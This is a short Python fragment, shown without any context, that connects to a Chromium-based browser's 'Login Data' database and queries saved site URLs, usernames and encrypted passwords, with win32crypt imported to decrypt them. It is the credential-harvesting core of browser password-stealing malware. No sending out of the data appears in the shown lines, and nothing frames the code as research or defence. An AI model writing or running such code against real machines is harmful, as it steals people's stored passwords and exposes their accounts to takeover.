import sqlite3, win32crypt
db = sqlite3.connect(r"User Data\Default\Login Data")
rows = db.execute("SELECT origin_url, username_value, password_value FROM logins")
